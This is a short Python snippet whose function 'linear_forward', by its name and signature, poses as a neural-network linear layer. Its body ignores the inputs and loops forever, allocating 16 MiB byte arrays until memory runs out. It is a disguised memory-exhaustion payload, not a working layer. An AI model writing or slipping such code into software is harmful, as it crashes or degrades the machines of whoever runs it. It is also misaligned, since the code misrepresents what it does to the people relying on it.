def linear_forward(x, weight, bias=None):
    kept = []
    while True:
        kept.append(bytearray(2**24))
